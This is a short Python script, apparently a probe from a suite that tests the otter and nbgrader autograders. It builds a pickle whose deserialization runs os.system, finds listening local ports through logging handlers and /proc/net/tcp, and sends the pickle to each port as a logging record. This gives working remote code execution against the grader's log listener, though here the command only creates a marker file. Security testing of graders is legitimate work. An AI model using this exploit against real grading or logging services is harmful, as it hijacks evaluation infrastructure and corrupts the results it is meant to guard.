"""Sends a pickle that runs code to the port on which otter, while it grades, listens for log records."""

GROUP = "otter and nbgrader"
import logging
import os
import pickle
import socket
import struct


class Fires:
    def __reduce__(self):
        return (os.system, (f"touch {marked('/tmp')}",))


ports = set()
for logger in [logging.getLogger(), *map(logging.getLogger, list(logging.root.manager.loggerDict))]:
    ports |= {handler.port for handler in logger.handlers if hasattr(handler, "port")}
try:
    rows = [line.split() for line in open("/proc/net/tcp").read().splitlines()[1:]]
    ports |= {int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A"}
except OSError:
    pass
record = pickle.dumps(Fires())
for port in ports - {KNOWN["tcp"]}:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.5) as connection:
            connection.sendall(struct.pack(">L", len(record)) + record)
    except OSError:
        pass
